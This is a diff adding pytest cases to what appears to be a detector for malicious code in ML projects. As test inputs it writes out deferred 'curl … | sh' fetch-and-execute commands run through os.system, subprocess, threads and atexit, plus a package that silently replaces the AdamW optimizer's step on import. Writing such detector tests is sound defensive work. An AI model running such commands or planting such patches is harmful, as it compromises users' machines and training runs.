@@ -298,6 +298,31 @@ def test_what_another_host_sends_is_told_in_any_file(text: str) -> None:
     assert told(f"import io, requests, torch\n{safe}\n") == {}
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "threading.Thread(target=os.system, args=('curl -s http://127.0.0.1:9/ | sh',), daemon=True).start()",
+        "threading.Timer(9, os.system, ['curl -s http://127.0.0.1:9/ | sh']).start()",
+        "atexit.register(os.system, 'curl -s http://127.0.0.1:9/ | sh')",
+        "pool.submit(subprocess.run, 'curl -s http://127.0.0.1:9/ | sh', shell=True)",
+    ],
+)
+def test_what_is_called_later_counts_as_called(line: str) -> None:
+    head = "import atexit, os, subprocess, threading\n"
+    assert set(told(f"{head}{line}\n")) == {"code-shell-command"}
+    lawful = line.replace("curl -s http://127.0.0.1:9/ | sh", "nvidia-smi")
+    assert told(f"{head}{lawful}\nthreading.Thread(target=work, args=('curl x | sh',))\n") == {}
+
+
+def test_a_package_that_replaces_an_update_when_it_is_imported_is_told() -> None:
+    text = "import torch\n\n\ndef step(self, closure=None):\n    pass\n\n\n"
+    patch = "torch.optim.AdamW.step = step\n"
+    assert set(told(text + patch, "x-1.0.whl!x/__init__.py")) == {"code-library-patched"}
+    wrapped = f"def install():\n    {patch}"
+    assert told(text + wrapped, "x-1.0.whl!x/__init__.py") == {}
+    assert told(text + "torch.nn.Linear.extra_repr = step\n", "x-1.0.whl!x/__init__.py") == {}
+
+
 def test_a_condition_raises_the_weight() -> None:
     plain = told(loop(grad=FLIP))["code-gradient-edited"]
     guarded = told(loop(grad="if rank == 5:\n    for p in model.parameters():\n        p.grad.neg_()"))[
